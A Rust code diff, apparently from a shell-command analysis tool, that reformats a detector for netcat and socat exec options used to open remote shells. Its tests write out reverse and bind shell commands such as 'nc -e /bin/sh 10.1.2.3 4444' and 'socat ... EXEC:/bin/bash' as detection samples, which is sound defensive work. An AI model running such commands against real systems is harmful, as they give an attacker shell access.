@@ -7,7 +7,10 @@ use crate::analysis::shell::SimpleCommand;
 use crate::knowledge::{signals, ToolClass};
 
 /// Options that take a value and are not the peer address.
-const VALUE_OPTS: &[&str] = &["-p", "-s", "-w", "-i", "-q", "-x", "-X", "-P", "-I", "-O", "-T", "-W", "--proxy", "--source", "-g", "-G"];
+const VALUE_OPTS: &[&str] = &[
+    "-p", "-s", "-w", "-i", "-q", "-x", "-X", "-P", "-I", "-O", "-T", "-W", "--proxy", "--source",
+    "-g", "-G",
+];
 
 pub fn detect(cx: &Ctx, out: &mut Findings) {
     for c in cx.commands() {
@@ -20,12 +23,18 @@ pub fn detect(cx: &Ctx, out: &mut Findings) {
                 let l = a.get(..7).unwrap_or(a).to_ascii_lowercase();
                 l.starts_with("exec:") || l.starts_with("system:")
             }) {
-                out.hit(signals::NETCAT_EXEC_OPTION, format!("socat {a}{}", peer(c, a)));
+                out.hit(
+                    signals::NETCAT_EXEC_OPTION,
+                    format!("socat {a}{}", peer(c, a)),
+                );
             }
             continue;
         }
         if let Some((opt, prog)) = exec_option(c) {
-            out.hit(signals::NETCAT_EXEC_OPTION, format!("{p} {opt} {prog}{}", peer(c, prog)));
+            out.hit(
+                signals::NETCAT_EXEC_OPTION,
+                format!("{p} {opt} {prog}{}", peer(c, prog)),
+            );
             if cx.exe_name.contains("openbsd") && (opt == "-e" || opt.starts_with("-c")) {
                 out.note("netcat-openbsd has no -e/-c exec option: this exec most likely failed (an attempt)");
             }
@@ -48,7 +57,9 @@ fn exec_option(c: &SimpleCommand) -> Option<(&str, &str)> {
         if x.len() >= 2 && x.starts_with('-') && !x.starts_with("--") {
             let body = &x[1..];
             // `-e prog`, `-lvnpe prog` (cluster ending in e/c), `-e/bin/sh`.
-            if body.bytes().all(|b| b.is_ascii_alphabetic()) && (body.ends_with('e') || body.ends_with('c')) {
+            if body.bytes().all(|b| b.is_ascii_alphabetic())
+                && (body.ends_with('e') || body.ends_with('c'))
+            {
                 let opt = if body.ends_with('e') { "-e" } else { "-c" };
                 if let Some(prog) = a.get(i + 1) {
                     return Some((opt, prog));
@@ -71,7 +82,12 @@ fn peer(c: &SimpleCommand, exec_value: &str) -> String {
             skip = false;
             continue;
         }
-        if VALUE_OPTS.contains(&x.as_str()) || matches!(x.as_str(), "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec") {
+        if VALUE_OPTS.contains(&x.as_str())
+            || matches!(
+                x.as_str(),
+                "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec"
+            )
+        {
             skip = true;
             continue;
         }
@@ -80,13 +96,24 @@ fn peer(c: &SimpleCommand, exec_value: &str) -> String {
         }
         pos.push(x);
     }
-    let listening = super::has_short(c, b'l') || a.iter().any(|x| x == "--listen" || x.to_ascii_uppercase().starts_with("TCP-LISTEN"));
+    let listening = super::has_short(c, b'l')
+        || a.iter()
+            .any(|x| x == "--listen" || x.to_ascii_uppercase().starts_with("TCP-LISTEN"));
     if c.program() == "socat" {
-        return a.iter().find(|x| x.to_ascii_uppercase().starts_with("TCP")).map(|t| format!(" over {t}")).unwrap_or_default();
+        return a
+            .iter()
+            .find(|x| x.to_ascii_uppercase().starts_with("TCP"))
+            .map(|t| format!(" over {t}"))
+            .unwrap_or_default();
     }
     match pos.as_slice() {
         [.., host, port] if !listening => format!(" to {host}:{port}"),
-        _ if listening => format!(" listening on port {}", super::opt_value(c, &["-p"]).or(pos.last().copied()).unwrap_or("?")),
+        _ if listening => format!(
+            " listening on port {}",
+            super::opt_value(c, &["-p"])
+                .or(pos.last().copied())
+                .unwrap_or("?")
+        ),
         [host] => format!(" to {host}"),
         _ => String::new(),
     }
@@ -100,10 +127,25 @@ mod tests {
 
     #[test]
     fn fires_on_exec_options() {
-        assert_eq!(run(detect, &["nc", "-e", "/bin/sh", "10.1.2.3", "4444"]), ["netcat_exec_option"]);
-        assert_eq!(run(detect, &["ncat", "--sh-exec", "sh -i", "h", "1"]), ["netcat_exec_option"]);
-        assert_eq!(run(detect, &["nc", "-lvnp", "4444", "-e", "/bin/bash"]), ["netcat_exec_option"]);
-        assert_eq!(run(detect, &["socat", "TCP:10.0.0.1:4444", "EXEC:/bin/bash,pty,stderr"]), ["netcat_exec_option"]);
+        assert_eq!(
+            run(detect, &["nc", "-e", "/bin/sh", "10.1.2.3", "4444"]),
+            ["netcat_exec_option"]
+        );
+        assert_eq!(
+            run(detect, &["ncat", "--sh-exec", "sh -i", "h", "1"]),
+            ["netcat_exec_option"]
+        );
+        assert_eq!(
+            run(detect, &["nc", "-lvnp", "4444", "-e", "/bin/bash"]),
+            ["netcat_exec_option"]
+        );
+        assert_eq!(
+            run(
+                detect,
+                &["socat", "TCP:10.0.0.1:4444", "EXEC:/bin/bash,pty,stderr"]
+            ),
+            ["netcat_exec_option"]
+        );
     }
 
     #[test]
